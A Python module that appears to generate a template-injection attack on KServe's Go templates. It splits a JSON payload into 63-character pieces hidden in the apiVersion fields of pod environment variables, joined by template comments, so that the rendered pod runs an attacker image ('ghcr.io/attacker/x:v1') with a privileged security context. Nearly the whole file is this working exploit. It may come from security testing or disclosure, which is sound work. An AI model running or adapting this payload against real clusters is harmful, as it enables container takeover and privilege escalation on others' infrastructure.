"""The attack on KServe's Go templates: pieces of one, each short enough for the version of a field's path.

An action prints quotes, which end the text that it stands in: what follows is JSON of the attacker's, with
another image and all privileges. Comments swallow what is between the pieces. So it is with text/template;
KServe 0.16 and 0.20 use html/template, which prints quotes as `&#34;`, executes the rest all the same.
"""

from __future__ import annotations

import re

from aim_operator.api.meta import Manifest

IMAGE = "ghcr.io/attacker/x:v1"
_LONGEST = 63
_OPEN, _CLOSE = "{{/*", "*/}}"
_QUOTE = "{{$q:=printf `%c` 34}}"
_INJECTED = (
    f'v1","fieldPath":"metadata.name"}}}}}}],"image":"{IMAGE}","securityContext":{{"privileged":true}},'
    '"env":[{"valueFrom":{"fieldRef":{"apiVersion":"v1'
)


def pieces() -> list[str]:
    """Return the template in pieces of at most 63 characters, as the API server took them."""
    # A space keeps a brace of JSON from the two that start an action.
    whole = _QUOTE + _INJECTED.replace('{"', '{ "').replace('"', "{{$q}}")
    out = [""]
    for atom in re.findall(r"{{.*?}}|.", whole):
        if len(out[-1]) + len(atom) + len(_OPEN) > _LONGEST:
            out[-1] += _OPEN
            out.append(_CLOSE)
        out[-1] += atom
    return out


def piece(name: str, api_version: str) -> Manifest:
    """Return a variable of the Pod's name, with a piece for the version of its path."""
    return {
        "name": name,
        "valueFrom": {"fieldRef": {"fieldPath": "metadata.name", "apiVersion": api_version}},
    }


def env() -> list[Manifest]:
    """Return the variables of the attack."""
    return [piece(f"V{number}", text) for number, text in enumerate(pieces())]
